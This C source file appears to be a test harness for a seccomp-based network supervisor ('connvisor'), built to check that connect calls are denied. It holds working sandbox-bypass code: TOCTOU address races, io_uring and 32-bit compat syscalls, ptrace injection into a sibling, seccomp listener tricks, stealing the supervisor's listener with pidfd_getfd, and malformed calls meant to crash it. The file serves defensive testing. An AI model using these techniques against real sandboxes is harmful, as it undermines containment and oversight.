// attack: one program, one side door per mode. Each mode tries to reach a
// destination that the policy under test denies, and prints its verdict as
// the last line:
//
//	REACHED [details]     the connection or datagram got through
//	BLOCKED ERRNO [why]   the door held (ERRNO is the name of the errno)
//	SKIP reason           this machine cannot try the door at all
//
// attacks_test.go runs every mode natively (it must reach: that proves the
// door is real) and under connvisor (it must not), and checks the server
// side too, so a program that lies about REACHED proves nothing either way.
//
// Build: gcc -O2 -pthread -o attack attack.c (in its own directory: a Go
// package may not hold C files without cgo)
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/ipv6.h>
#include <linux/seg6.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <linux/if_packet.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif
#ifndef SECCOMP_USER_NOTIF_FLAG_CONTINUE
#define SECCOMP_USER_NOTIF_FLAG_CONTINUE 1
#endif

static const char *ename(int e) {
	switch (e) {
#define E(x) case x: return #x;
	E(EPERM) E(ENOENT) E(ESRCH) E(EINTR) E(EBADF) E(EAGAIN) E(ENOMEM) E(EACCES)
	E(EFAULT) E(EBUSY) E(EINVAL) E(ENOSYS) E(ENOTSOCK) E(EDESTADDRREQ)
	E(EMSGSIZE) E(EPROTONOSUPPORT) E(EOPNOTSUPP) E(EAFNOSUPPORT) E(EADDRINUSE)
	E(EADDRNOTAVAIL) E(ENETUNREACH) E(ECONNRESET) E(EISCONN) E(ENOTCONN)
	E(ETIMEDOUT) E(ECONNREFUSED) E(EALREADY) E(EINPROGRESS) E(EPIPE) E(ENOTDIR)
	E(ELOOP) E(ENAMETOOLONG)
#undef E
	}
	static char buf[32];
	snprintf(buf, sizeof buf, "errno%d", e);
	return buf;
}

static void die(const char *what) {
	printf("ERROR %s: %s\n", what, ename(errno));
	exit(3);
}

static void verdict(long r, int err, const char *why) {
	if (r >= 0)
		printf("REACHED%s%s\n", why ? " " : "", why ? why : "");
	else
		printf("BLOCKED %s%s%s\n", ename(err), why ? " " : "", why ? why : "");
	fflush(stdout);
}

static struct sockaddr_in addr4(const char *ip, const char *port) {
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
	if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) {
		printf("ERROR bad address %s\n", ip);
		exit(2);
	}
	return sa;
}

static int tcp(void) {
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0) die("socket");
	return s;
}

// raw connect: libc adds nothing, errno is the kernel's (or connvisor's).
static long rconnect(long fd, const void *sa, long len) {
	return syscall(SYS_connect, fd, sa, len);
}

// ---- plain connect (the control) ----------------------------------------
static int m_connect(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = tcp();
	long r = rconnect(s, &sa, sizeof sa);
	int e = errno;
	char why[64];
	snprintf(why, sizeof why, "euid=%d", (int)geteuid());
	if (r == 0) write(s, "x", 1);
	verdict(r, e, why);
	return 0;
}

// connect6 IP6 PORT: IPv6 spellings of an IPv4 destination (::ffff:a.b.c.d).
static int m_connect6(char **a) {
	struct sockaddr_in6 sa = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(a[1]))};
	if (inet_pton(AF_INET6, a[0], &sa.sin6_addr) != 1) {
		printf("ERROR bad address %s\n", a[0]);
		return 2;
	}
	int s = socket(AF_INET6, SOCK_STREAM, 0);
	if (s < 0) die("socket");
	long r = rconnect(s, &sa, sizeof sa);
	int e = errno;
	if (r == 0) write(s, "x", 1);
	verdict(r, e, NULL);
	return 0;
}

// ---- TOCTOU: flip the sockaddr while another thread connects -------------
static struct sockaddr_in race_sa;
static atomic_int race_stop;
static uint16_t race_ports[2];

static void *flipper(void *arg) {
	(void)arg;
	volatile uint16_t *p = &race_sa.sin_port;
	while (!atomic_load_explicit(&race_stop, memory_order_relaxed)) {
		// Many flips per connect: the window between the supervisor's read
		// and its connect is what this tries to hit.
		for (int i = 0; i < 64; i++) {
			*p = race_ports[0];
			*p = race_ports[1];
		}
	}
	return NULL;
}

// race IP DENYPORT ALLOWPORT TRIES [udp]
static int m_race(char **a, int udp) {
	race_sa = addr4(a[0], a[1]);
	uint16_t deny = htons(atoi(a[1])), allow = htons(atoi(a[2]));
	race_ports[0] = allow;
	race_ports[1] = deny;
	int tries = atoi(a[3]);
	pthread_t th[2];
	for (int i = 0; i < 2; i++) pthread_create(&th[i], NULL, flipper, NULL);
	long reached = 0, allowed = 0, refused = 0, last = 0;
	for (int i = 0; i < tries; i++) {
		if (!udp) {
			int s = tcp();
			struct linger lg = {1, 0}; // RST on close: no TIME_WAIT pile-up
			setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
			if (rconnect(s, &race_sa, sizeof race_sa) == 0) {
				struct sockaddr_in peer;
				socklen_t pl = sizeof peer;
				getpeername(s, (struct sockaddr *)&peer, &pl);
				if (peer.sin_port == deny) reached++;
				else allowed++;
			} else {
				refused++;
				last = errno;
			}
			close(s);
		} else {
			int s = socket(AF_INET, SOCK_DGRAM, 0);
			if (sendto(s, "x", 1, 0, (struct sockaddr *)&race_sa, sizeof race_sa) == 1) allowed++;
			else {
				refused++;
				last = errno;
			}
			close(s);
		}
	}
	atomic_store(&race_stop, 1);
	for (int i = 0; i < 2; i++) pthread_join(th[i], NULL);
	char why[128];
	snprintf(why, sizeof why, "tries=%d reached=%ld allowed=%ld refused=%ld", tries, reached, allowed, refused);
	if (udp) // the server counts what arrived: the sender cannot know
		printf("SENT %s last=%s\n", why, last ? ename(last) : "-");
	else if (reached) printf("REACHED %s\n", why);
	else printf("BLOCKED %s %s\n", last ? ename(last) : "none", why);
	return 0;
}

// ---- datagrams with a destination -----------------------------------------
static int udp_echo(int s) {
	struct timeval tv = {1, 0};
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	char buf[64];
	return recv(s, buf, sizeof buf, 0) > 0;
}

// udp-sendto | udp-sendmsg | udp-sendmmsg | udp-unspec IP PORT
// udp-unspec: IPv4 UDP sends to the address of an AF_UNSPEC name
// (udp_sendmsg), which must not pass for a dissolve.
static int m_udp(char **a, const char *how) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	if (!strcmp(how, "unspec")) {
		sa.sin_family = AF_UNSPEC;
		how = "sendto";
	}
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0) die("socket");
	char data[] = "attack";
	struct iovec iov = {data, sizeof data - 1};
	struct msghdr mh = {.msg_name = &sa, .msg_namelen = sizeof sa, .msg_iov = &iov, .msg_iovlen = 1};
	long r;
	if (!strcmp(how, "sendto")) r = sendto(s, data, iov.iov_len, 0, (struct sockaddr *)&sa, sizeof sa);
	else if (!strcmp(how, "sendmsg")) r = sendmsg(s, &mh, 0);
	else {
		// A harmless first message to an unroutable TEST-NET address is
		// not sent at all: both go to the target, so one decision per
		// message is what is tested.
		struct mmsghdr mm[2] = {{.msg_hdr = mh}, {.msg_hdr = mh}};
		r = sendmmsg(s, mm, 2, 0);
		if (r >= 0 && r != 2) r = -1, errno = EIO;
	}
	int e = errno;
	if (r < 0) {
		verdict(r, e, how);
		return 0;
	}
	if (udp_echo(s)) verdict(0, 0, how);
	else printf("BLOCKED noecho %s (sent, nothing came back)\n", how);
	return 0;
}

// fastopen | fastopen-msg IP PORT: TCP fast open is an implicit connect.
static int m_fastopen(char **a, int msg) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = tcp();
	long r;
	if (!msg) r = sendto(s, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&sa, sizeof sa);
	else {
		struct iovec iov = {"x", 1};
		struct msghdr mh = {.msg_name = &sa, .msg_namelen = sizeof sa, .msg_iov = &iov, .msg_iovlen = 1};
		r = sendmsg(s, &mh, MSG_FASTOPEN);
	}
	verdict(r, errno, msg ? "sendmsg(MSG_FASTOPEN)" : "sendto(MSG_FASTOPEN)");
	return 0;
}

// ---- io_uring: the connect runs in a kernel worker ------------------------
static int m_iouring(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = tcp();
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	int ring = syscall(__NR_io_uring_setup, 4, &p);
	if (ring < 0) {
		verdict(-1, errno, "io_uring_setup");
		return 0;
	}
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(uint32_t);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP) sqsz = cqsz = sqsz > cqsz ? sqsz : cqsz;
	char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	char *cq = (p.features & IORING_FEAT_SINGLE_MMAP) ? sq
		: mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
					 MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) die("mmap io_uring");
	_Atomic uint32_t *sqtail = (void *)(sq + p.sq_off.tail);
	uint32_t *sqmask = (void *)(sq + p.sq_off.ring_mask), *sqarr = (void *)(sq + p.sq_off.array);
	uint32_t t = atomic_load(sqtail), idx = t & *sqmask;
	struct io_uring_sqe *e = &sqes[idx];
	memset(e, 0, sizeof *e);
	e->opcode = IORING_OP_CONNECT;
	e->fd = s;
	e->addr = (uint64_t)(uintptr_t)&sa;
	e->off = sizeof sa; // addr2: the address length
	sqarr[idx] = idx;
	atomic_store_explicit(sqtail, t + 1, memory_order_release);
	if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) die("io_uring_enter");
	_Atomic uint32_t *cqhead = (void *)(cq + p.cq_off.head);
	uint32_t *cqmask = (void *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (void *)(cq + p.cq_off.cqes);
	int res = cqes[atomic_load(cqhead) & *cqmask].res;
	if (res == 0) write(s, "x", 1);
	verdict(res, -res, "IORING_OP_CONNECT");
	return 0;
}

// ---- compat ABIs -----------------------------------------------------------
static sigjmp_buf fault_jmp;
static void on_fault(int sig) { siglongjmp(fault_jmp, sig); }

static long int80(long nr, long b, long c, long d) {
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(b), "c"(c), "d"(d) : "memory");
	return r;
}

// int80 | int80-connect IP PORT: i386 socketcall(SYS_CONNECT) or i386
// connect (362) from this 64-bit process. Pointers must fit in 32 bits.
static int m_int80(char **a, int direct) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = tcp();
	uint32_t *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED) die("mmap MAP_32BIT");
	memcpy(low + 16, &sa, sizeof sa);
	low[0] = s;
	low[1] = (uint32_t)(uintptr_t)(low + 16);
	low[2] = sizeof sa;
	signal(SIGSEGV, on_fault);
	signal(SIGILL, on_fault);
	signal(SIGSYS, on_fault);
	int sig = sigsetjmp(fault_jmp, 1);
	if (sig) {
		printf("SKIP int 0x80 raised signal %d (%s): this kernel runs no 32-bit syscalls (ia32 emulation off)\n",
		       sig, strsignal(sig));
		return 0;
	}
	long r = direct ? int80(362, low[0], low[1], low[2]) : int80(102, 3 /* SYS_CONNECT */, (long)(uintptr_t)low, 0);
	if (r == 0) write(s, "x", 1);
	verdict(r < 0 && r > -4096 ? -1 : r, r < 0 ? (int)-r : 0, direct ? "i386 connect(362)" : "i386 socketcall(SYS_CONNECT)");
	return 0;
}

// int80-sendto IP PORT: a UDP datagram with a destination through i386
// socketcall(SYS_SENDTO); the socket itself is made natively.
static int m_int80_sendto(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0) die("socket");
	uint32_t *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED) die("mmap MAP_32BIT");
	memcpy(low + 16, &sa, sizeof sa);
	memcpy(low + 32, "attack", 6);
	low[0] = s;
	low[1] = (uint32_t)(uintptr_t)(low + 32);
	low[2] = 6;
	low[3] = 0;
	low[4] = (uint32_t)(uintptr_t)(low + 16);
	low[5] = sizeof sa;
	signal(SIGSEGV, on_fault);
	signal(SIGILL, on_fault);
	int sig = sigsetjmp(fault_jmp, 1);
	if (sig) {
		printf("SKIP int 0x80 raised signal %d (%s): this kernel runs no 32-bit syscalls (ia32 emulation off)\n",
		       sig, strsignal(sig));
		return 0;
	}
	long r = int80(102, 11 /* SYS_SENDTO */, (long)(uintptr_t)low, 0);
	if (r < 0) {
		verdict(-1, (int)-r, "i386 socketcall(SYS_SENDTO)");
		return 0;
	}
	if (udp_echo(s)) verdict(0, 0, "i386 socketcall(SYS_SENDTO)");
	else printf("BLOCKED noecho i386 socketcall(SYS_SENDTO) (sent, nothing came back)\n");
	return 0;
}

// x32 IP PORT: connect with __X32_SYSCALL_BIT.
static int m_x32(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = tcp();
	long r = syscall(0x40000000 | 42, s, &sa, sizeof sa);
	int e = errno;
	if (r == 0) write(s, "x", 1);
	verdict(r, e, "x32 connect(0x4000002a)");
	return 0;
}

// ---- the target's own seccomp filter ---------------------------------------
static int seccomp_load(struct sock_filter *f, unsigned short n, unsigned flags) {
	struct sock_fprog prog = {n, f};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

static int own_listener = -1;
static void *continue_all(void *arg) {
	(void)arg;
	for (;;) {
		struct pollfd pfd = {own_listener, POLLIN, 0};
		if (poll(&pfd, 1, -1) < 0 || (pfd.revents & (POLLHUP | POLLNVAL))) return NULL;
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;
		memset(&req, 0, sizeof req);
		if (ioctl(own_listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) continue;
		memset(&resp, 0, sizeof resp);
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(own_listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

// own-filter IP PORT allow|log|trace|notif
static int m_own_filter(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	const char *kind = a[2];
	int s = tcp();
	unsigned ret = SECCOMP_RET_ALLOW;
	if (!strcmp(kind, "log")) ret = SECCOMP_RET_LOG;
	else if (!strcmp(kind, "trace")) ret = SECCOMP_RET_TRACE;
	else if (!strcmp(kind, "notif")) ret = SECCOMP_RET_USER_NOTIF;
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, ret),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	char why[96];
	if (ret == SECCOMP_RET_USER_NOTIF) {
		// Our own listener, answered by a thread that the new filter does
		// not cover (it exists before the filter, and there is no TSYNC):
		// every connect CONTINUEs, if our notification wins over connvisor's.
		static pthread_barrier_t bar;
		pthread_barrier_init(&bar, NULL, 1);
		int fd = seccomp_load(f, 4, SECCOMP_FILTER_FLAG_NEW_LISTENER);
		if (fd < 0) {
			snprintf(why, sizeof why, "(own listener refused: %s)", ename(errno));
			long r = rconnect(s, &sa, sizeof sa);
			int e = errno;
			if (r == 0) write(s, "x", 1);
			verdict(r, e, why);
			return 0;
		}
		own_listener = fd;
		pthread_t th;
		// pthread_create from the filtered thread: the child inherits the
		// filter, but ioctl and poll are not trapped by it.
		pthread_create(&th, NULL, continue_all, NULL);
		snprintf(why, sizeof why, "(own listener fd %d answered CONTINUE)", fd);
	} else {
		if (seccomp_load(f, 4, 0) < 0) die("seccomp");
		snprintf(why, sizeof why, "(own filter returns %s for connect)", kind);
	}
	long r = rconnect(s, &sa, sizeof sa);
	int e = errno;
	if (r == 0) write(s, "x", 1);
	verdict(r, e, why);
	return 0;
}

// ---- ptrace a sibling and make it connect ----------------------------------
extern char gadget[];
__asm__(".text\n.globl gadget\ngadget:\n\tsyscall\n\tint3\n");

static int m_ptrace(char **a) {
	static struct sockaddr_in sa; // same address in the forked sibling
	sa = addr4(a[0], a[1]);
	int s = tcp();
	pid_t victim = fork();
	if (victim == 0) {
		for (;;) pause();
	}
	int pfd[2];
	pipe(pfd);
	pid_t tracer = fork();
	if (tracer == 0) {
		char line[160];
		long r = -1;
		int e = 0;
		struct user_regs_struct regs, saved;
		int st;
		if (ptrace(PTRACE_SEIZE, victim, 0, 0) < 0) {
			e = errno;
			snprintf(line, sizeof line, "BLOCKED %s (PTRACE_SEIZE sibling)\n", ename(e));
			goto out;
		}
		ptrace(PTRACE_INTERRUPT, victim, 0, 0);
		waitpid(victim, &st, __WALL);
		ptrace(PTRACE_GETREGS, victim, 0, &saved);
		regs = saved;
		regs.orig_rax = -1; // no syscall restart for the interrupted pause()
		regs.rip = (uintptr_t)gadget;
		regs.rax = SYS_connect;
		regs.rdi = s;
		regs.rsi = (uintptr_t)&sa;
		regs.rdx = sizeof sa;
		ptrace(PTRACE_SETREGS, victim, 0, &regs);
		ptrace(PTRACE_CONT, victim, 0, 0);
		for (;;) {
			if (waitpid(victim, &st, __WALL) < 0) break;
			if (WIFSTOPPED(st) && WSTOPSIG(st) == SIGTRAP) break;
			ptrace(PTRACE_CONT, victim, 0, WIFSTOPPED(st) ? WSTOPSIG(st) : 0);
		}
		ptrace(PTRACE_GETREGS, victim, 0, &regs);
		r = (long)regs.rax;
		if (r == 0) write(s, "x", 1);
		if (r < 0) snprintf(line, sizeof line, "BLOCKED %s (connect injected into sibling %d)\n", ename((int)-r), victim);
		else snprintf(line, sizeof line, "REACHED (connect injected into sibling %d)\n", victim);
	out:
		write(pfd[1], line, strlen(line));
		_exit(0);
	}
	close(pfd[1]);
	char buf[200] = {0};
	read(pfd[0], buf, sizeof buf - 1);
	waitpid(tracer, NULL, 0);
	kill(victim, SIGKILL);
	waitpid(victim, NULL, 0);
	printf("%s", buf);
	return 0;
}

// ---- vfork -----------------------------------------------------------------
static int m_vfork(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = tcp();
	static volatile long r;
	static volatile int e;
	pid_t pid = vfork();
	if (pid == 0) {
		r = syscall(SYS_connect, s, &sa, sizeof sa);
		e = errno;
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	if (r == 0) write(s, "x", 1);
	verdict(r, e, "(connect in a vfork child)");
	return 0;
}

// ---- drop to nobody, exec a setuid-root copy of this program ---------------
static void drop_to(uid_t uid) {
	gid_t g = uid;
	if (setgroups(0, NULL) || setresgid(g, g, g) || setresuid(uid, uid, uid)) die("drop privileges");
}

// setuid-exec EXE IP PORT
static int m_setuid_exec(char **a) {
	drop_to(65534);
	execl(a[0], "attack", "connect", a[1], a[2], (char *)NULL);
	die("exec");
	return 0;
}

// ---- AF_UNIX: the supervisor as a confused deputy --------------------------
// unix PATH [uid=N] [chdir=DIR] [chroot=DIR]: chroot, then chdir, then drop
// privileges, then connect.
static int m_unix(char **a, int argc) {
	const char *path = a[0], *cd = NULL, *jail = NULL;
	int uid = -1;
	for (int i = 1; i < argc; i++) {
		if (!strncmp(a[i], "uid=", 4)) uid = atoi(a[i] + 4);
		else if (!strncmp(a[i], "chdir=", 6)) cd = a[i] + 6;
		else if (!strncmp(a[i], "chroot=", 7)) jail = a[i] + 7;
	}
	if (jail && (chroot(jail) || chdir("/"))) die("chroot");
	if (cd && chdir(cd)) die("chdir");
	if (uid >= 0) drop_to(uid);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0) die("socket");
	struct sockaddr_un su = {.sun_family = AF_UNIX};
	strncpy(su.sun_path, path, sizeof su.sun_path - 1);
	long r = rconnect(s, &su, offsetof(struct sockaddr_un, sun_path) + strlen(su.sun_path) + 1);
	int e = errno;
	if (r == 0) write(s, "x", 1);
	char why[64];
	snprintf(why, sizeof why, "(uid %d)", (int)getuid());
	verdict(r, e, why);
	return 0;
}

// ---- hostile memory and arguments ------------------------------------------
static void on_usr1(int sig) {
	(void)sig;
	syscall(SYS_exit, 0); // this thread only, in the middle of its connect
}

static void *exiting_connector(void *arg) {
	struct sockaddr_in *sa = arg;
	for (;;) {
		int s = tcp();
		rconnect(s, sa, sizeof *sa);
		close(s);
	}
	return NULL;
}

static char *page_pair(void) {
	char *p = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED) die("mmap");
	if (mprotect(p + 4096, 4096, PROT_NONE)) die("mprotect");
	return p;
}

// hostile KIND IP DENYPORT ALLOWPORT: prints "RESULT KIND ERRNO|ok", then a
// control connect to ALLOWPORT ("ALIVE" when the supervisor still answers).
static int m_hostile(char **a) {
	const char *kind = a[0];
	struct sockaddr_in sa = addr4(a[1], a[2]), ok = addr4(a[1], a[3]);
	int s = tcp();
	long r = 0;
	errno = 0;
	if (!strcmp(kind, "null")) r = rconnect(s, NULL, sizeof sa);
	else if (!strcmp(kind, "null-len0")) r = rconnect(s, NULL, 0);
	else if (!strcmp(kind, "unmapped")) {
		char *p = mmap(0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		munmap(p, 4096);
		r = rconnect(s, p, sizeof sa);
	} else if (!strcmp(kind, "partial")) {
		char *p = page_pair();
		memcpy(p + 4096 - 8, &sa, 8); // family, port and address: the rest is unreadable
		r = rconnect(s, p + 4096 - 8, sizeof sa);
	} else if (!strcmp(kind, "partial-exact")) {
		char *p = page_pair(); // the whole address, ending exactly at the hole
		memcpy(p + 4096 - sizeof sa, &sa, sizeof sa);
		r = rconnect(s, p + 4096 - sizeof sa, sizeof sa);
	} else if (!strcmp(kind, "huge-len")) r = rconnect(s, &sa, 1 << 20);
	else if (!strcmp(kind, "negative-len")) r = rconnect(s, &sa, -1);
	else if (!strcmp(kind, "short-len")) r = rconnect(s, &sa, 4);
	else if (!strcmp(kind, "high-len")) r = rconnect(s, &sa, 0x100000000L | sizeof sa); // int: 16
	else if (!strcmp(kind, "high-fd")) r = rconnect(0x100000000L | s, &sa, sizeof sa);  // int: s
	else if (!strcmp(kind, "bad-fd")) r = rconnect(999, &sa, sizeof sa);
	else if (!strcmp(kind, "negative-fd")) r = rconnect(-5, &sa, sizeof sa);
	else if (!strcmp(kind, "not-socket")) r = rconnect(open("/dev/null", O_RDONLY), &sa, sizeof sa);
	else if (!strcmp(kind, "sendto-unmapped")) {
		int u = socket(AF_INET, SOCK_DGRAM, 0);
		char *p = mmap(0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		munmap(p, 4096);
		r = sendto(u, "x", 1, 0, (struct sockaddr *)p, sizeof sa);
	} else if (!strcmp(kind, "sendto-data-unmapped")) {
		int u = socket(AF_INET, SOCK_DGRAM, 0);
		char *p = mmap(0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		munmap(p, 4096);
		r = sendto(u, p, 1, 0, (struct sockaddr *)&sa, sizeof sa);
	} else if (!strcmp(kind, "sendmsg-name-unmapped") || !strcmp(kind, "sendmsg-namelen-huge") ||
		   !strcmp(kind, "sendmsg-hdr-unmapped") || !strcmp(kind, "sendmmsg-vlen-huge")) {
		int u = socket(AF_INET, SOCK_DGRAM, 0);
		struct iovec iov = {"x", 1};
		struct msghdr mh = {.msg_name = &sa, .msg_namelen = sizeof sa, .msg_iov = &iov, .msg_iovlen = 1};
		char *p = mmap(0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		munmap(p, 4096);
		if (!strcmp(kind, "sendmsg-name-unmapped")) mh.msg_name = p;
		if (!strcmp(kind, "sendmsg-namelen-huge")) mh.msg_namelen = 100000; // cut to 128 by the kernel
		if (!strcmp(kind, "sendmmsg-vlen-huge")) {
			struct mmsghdr mm = {.msg_hdr = mh};
			r = sendmmsg(u, &mm, 0x7fffffff, 0); // the 2nd entry is whatever follows on the stack
		} else r = sendmsg(u, !strcmp(kind, "sendmsg-hdr-unmapped") ? (void *)p : &mh, 0);
	} else if (!strcmp(kind, "sendmsg-rights-partial") || !strcmp(kind, "unix-rights-partial")) {
		// An SCM_RIGHTS payload that is not a whole number of ints (the
		// kernel ignores the partial one) once crashed the supervisor.
		int u = !strcmp(kind, "unix-rights-partial") ? -1 : socket(AF_INET, SOCK_DGRAM, 0);
		int sv[2] = {-1, -1};
		if (u < 0 && socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) == 0) u = sv[0];
		char ctl[CMSG_SPACE(8)] = {0};
		struct cmsghdr *cm = (void *)ctl;
		cm->cmsg_level = SOL_SOCKET, cm->cmsg_type = SCM_RIGHTS, cm->cmsg_len = CMSG_LEN(5);
		int fd0 = 0;
		memcpy(CMSG_DATA(cm), &fd0, sizeof fd0);
		struct iovec iov = {"x", 1};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
		if (sv[0] < 0) mh.msg_name = &sa, mh.msg_namelen = sizeof sa;
		r = sendmsg(u, &mh, 0);
	} else if (!strcmp(kind, "thread-exit")) {
		// Threads killed one by one in the middle of their connects.
		signal(SIGUSR1, on_usr1);
		for (int i = 0; i < 200; i++) {
			pthread_t th;
			pthread_create(&th, NULL, exiting_connector, &sa);
			struct timespec ts = {0, (rand() % 2000) * 1000};
			nanosleep(&ts, NULL);
			pthread_kill(th, SIGUSR1);
			pthread_join(th, NULL);
		}
		r = 0;
	} else {
		printf("ERROR unknown kind %s\n", kind);
		return 2;
	}
	int e = errno;
	printf("RESULT %s %s\n", kind, r >= 0 ? "ok" : ename(e));
	int c = tcp();
	long cr = rconnect(c, &ok, sizeof ok);
	if (cr == 0) printf("ALIVE\n");
	else printf("DEAD %s\n", ename(errno));
	return 0;
}

// ---- the supervisor itself as a target -------------------------------------
// find the supervisor's seccomp listener among its descriptors.
static int find_listener(pid_t sup) {
	char dir[64], link[384], target[256];
	snprintf(dir, sizeof dir, "/proc/%d/fd", sup);
	DIR *d = opendir(dir);
	if (!d) return -errno;
	struct dirent *de;
	int found = -1, denied = 0;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.') continue;
		snprintf(link, sizeof link, "%s/%s", dir, de->d_name);
		ssize_t n = readlink(link, target, sizeof target - 1);
		if (n <= 0) {
			denied = errno;
			continue;
		}
		target[n] = 0;
		if (strstr(target, "seccomp notify")) {
			found = atoi(de->d_name);
			break;
		}
	}
	closedir(d);
	return found < 0 && denied ? -denied : found;
}

// sup-getfd IP PORT: steal the supervisor's listener with pidfd_getfd and
// answer our own connects with CONTINUE.
static int m_sup_getfd(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	pid_t sup = getppid();
	int lfd = find_listener(sup);
	if (lfd < -1) {
		// Cannot even list its descriptors: try the usual numbers blindly.
		int pidfd = syscall(SYS_pidfd_open, sup, 0), e = errno;
		for (int fd = 3; pidfd >= 0 && fd < 64; fd++) {
			int got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
			e = errno;
			if (got >= 0) {
				printf("REACHED pidfd_getfd took fd %d of supervisor %d\n", fd, sup);
				return 0;
			}
			if (e != EBADF) break;
		}
		printf("BLOCKED %s (list /proc/%d/fd: %s; pidfd_getfd of the supervisor)\n", ename(e), sup, ename(-lfd));
		return 0;
	}
	if (lfd < 0) {
		printf("SKIP no seccomp listener in parent %d (not supervised)\n", sup);
		return 0;
	}
	int pidfd = syscall(SYS_pidfd_open, sup, 0);
	if (pidfd < 0) {
		verdict(-1, errno, "(pidfd_open of the supervisor)");
		return 0;
	}
	int fd = syscall(SYS_pidfd_getfd, pidfd, lfd, 0);
	if (fd < 0) {
		verdict(-1, errno, "(pidfd_getfd of the supervisor's listener)");
		return 0;
	}
	own_listener = fd;
	pthread_t th;
	pthread_create(&th, NULL, continue_all, NULL);
	int reached = 0, tries, last = 0;
	for (tries = 0; tries < 200 && !reached; tries++) {
		int s = tcp();
		if (rconnect(s, &sa, sizeof sa) == 0) {
			write(s, "x", 1);
			reached++;
		} else last = errno;
		close(s);
	}
	char why[160];
	snprintf(why, sizeof why, "(stole listener fd %d of supervisor %d; %d tries)", lfd, sup, tries);
	verdict(reached ? 0 : -1, last, why);
	return 0;
}

// sup-kill IP PORT: kill the supervisor, then connect. Fail-closed means
// ENOSYS. Refuses to run unless the parent is connvisor (never natively).
